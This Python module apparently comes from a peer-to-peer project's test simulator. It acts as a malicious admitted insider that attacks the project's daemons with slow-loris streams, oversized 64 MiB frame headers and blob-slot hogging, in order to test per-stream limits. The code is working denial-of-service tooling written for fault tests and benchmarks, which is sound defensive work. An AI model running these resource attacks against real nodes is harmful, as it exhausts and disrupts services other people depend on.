"""A malicious insider for fault tests and benchmarks: resource attacks on daemons.

The attacker is an admitted member (its key is in the consortium), so admission checks
before the first frame do not stop it; only per-stream bounds do. Against each target it
keeps up, until `duration` runs out:

* slow-loris: `sync_streams` sync streams, each announcing a 2 MiB frame and then silent
  (streams the target resets are reopened);
* oversized frames: a frame header announcing 64 MiB on sync and blob streams, and a
  2 MiB sync frame of empty maps, every second;
* blob-slot hog: `blob_streams` blob streams, each re-sending a `manifest` request now
  and then without ever fetching.

Run as a process:  python -m netsim.attacker --seed HEX --target MULTIADDR [...] --duration S
It prints one JSON line of counters when done.
"""
from __future__ import annotations

import argparse
import json
import struct
import sys
from dataclasses import asdict, dataclass

import msgpack
import trio

from atdnode.replication import SYNC_PROTOCOL
from atdnode.transport import Stream, Transport, TransportError
from atdnode.blobs import PROTOCOL as BLOB_PROTOCOL, pack

MiB = 1 << 20


@dataclass
class AttackStats:
    opened: int = 0
    open_failed: int = 0
    reset_by_target: int = 0
    oversized_sent: int = 0
    task_errors: int = 0


async def _hold(stream: Stream, stats: AttackStats, keepalive: bytes | None, every: float) -> None:
    """Keep `stream` open (re-sending `keepalive` now and then) until the target resets it."""
    try:
        while True:
            with trio.move_on_after(every):
                await stream.read_frame(16 * MiB)  # only returns when the target answers or resets
            if keepalive is not None:
                await stream.write_frame(keepalive)
    except TransportError:
        stats.reset_by_target += 1


async def _loris(t: Transport, peer: str, n: int, stats: AttackStats) -> None:
    async def one() -> None:
        while True:
            try:
                s = await t.open_stream(peer, SYNC_PROTOCOL)
                stats.opened += 1
                await s.raw.send_all(struct.pack(">I", 2 * MiB) + b"\x82")  # announce 2 MiB, send 1 byte
            except TransportError:
                stats.open_failed += 1
                await trio.sleep(0.5)
                continue
            await _hold(s, stats, None, 3600)
            await trio.sleep(2.0)  # reset by the target: come back later (a loris, not a flood)

    async with trio.open_nursery() as nursery:
        for _ in range(n):
            nursery.start_soon(one)
            await trio.sleep(0.01)


async def _hog(t: Transport, peer: str, n: int, blob: str, stats: AttackStats) -> None:
    async def one() -> None:
        while True:
            try:
                s = await t.open_stream(peer, BLOB_PROTOCOL)
                stats.opened += 1
                await s.write_frame(pack({"op": "manifest", "blob": blob}))
            except TransportError:
                stats.open_failed += 1
                await trio.sleep(0.5)
                continue
            await _hold(s, stats, pack({"op": "manifest", "blob": blob}), 20)
            await trio.sleep(0.2)

    async with trio.open_nursery() as nursery:
        for _ in range(n):
            nursery.start_soon(one)
            await trio.sleep(0.01)


async def _oversized(t: Transport, peer: str, stats: AttackStats) -> None:
    empty_maps = msgpack.packb([{}] * (2 * MiB // 2 - 8))  # <= 2 MiB of empty maps
    while True:
        for proto, data in ((SYNC_PROTOCOL, struct.pack(">I", 64 * MiB)), (BLOB_PROTOCOL, struct.pack(">I", 64 * MiB)),
                            (SYNC_PROTOCOL, struct.pack(">I", len(empty_maps)) + empty_maps)):
            try:
                s = await t.open_stream(peer, proto)
                await s.raw.send_all(data)
                stats.oversized_sent += 1
                with trio.move_on_after(2):
                    await s.read_frame(16 * MiB)
                await s.reset()
            except TransportError:
                stats.reset_by_target += 1
        await trio.sleep(1.0)


async def _persist(fn, *args) -> None:
    """Run one attack task; a target that dies (or a py-libp2p error) ends only that task."""
    try:
        await fn(*args)
    except (Exception, BaseExceptionGroup) as exc:  # noqa: BLE001 -- an attacker shrugs and goes on
        stats = args[-1]
        stats.task_errors = getattr(stats, "task_errors", 0) + 1
        print(f"attack task ended: {type(exc).__name__}: {str(exc)[:200]}", file=sys.stderr)


async def attack(t: Transport, targets: list[str], *, duration: float, sync_streams: int = 255,
                 blob_streams: int = 32, blob: str = "00" * 32, started=lambda: None) -> AttackStats:
    """Connect `t` (running) to each target multiaddr and attack them all for `duration` s;
    `started()` is called once every target is connected and under attack."""
    stats = AttackStats()
    peers = [await t.connect(addr) for addr in targets]
    with trio.move_on_after(duration):
        async with trio.open_nursery() as nursery:
            for peer in peers:
                nursery.start_soon(_persist, _loris, t, peer, sync_streams, stats)
                nursery.start_soon(_persist, _hog, t, peer, blob_streams, blob, stats)
                nursery.start_soon(_persist, _oversized, t, peer, stats)
            started()
    return stats


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--seed", required=True, help="hex 32-byte identity seed (an admitted member's)")
    ap.add_argument("--target", action="append", required=True, help="target multiaddr with /p2p/ (repeatable)")
    ap.add_argument("--duration", type=float, default=30.0)
    ap.add_argument("--sync-streams", type=int, default=255)
    ap.add_argument("--blob-streams", type=int, default=32)
    ap.add_argument("--blob", default="00" * 32, help="blob hash to ask manifests for")
    args = ap.parse_args()

    from atdnode.transport import Libp2pTransport

    async def run() -> AttackStats:
        t = Libp2pTransport(bytes.fromhex(args.seed))
        async with t.run(["/ip4/127.0.0.1/tcp/0"]):
            return await attack(t, args.target, duration=args.duration, sync_streams=args.sync_streams,
                                blob_streams=args.blob_streams, blob=args.blob,
                                started=lambda: print(json.dumps({"ready": True}), flush=True))

    print(json.dumps(asdict(trio.run(run))), flush=True)


if __name__ == "__main__":
    main()
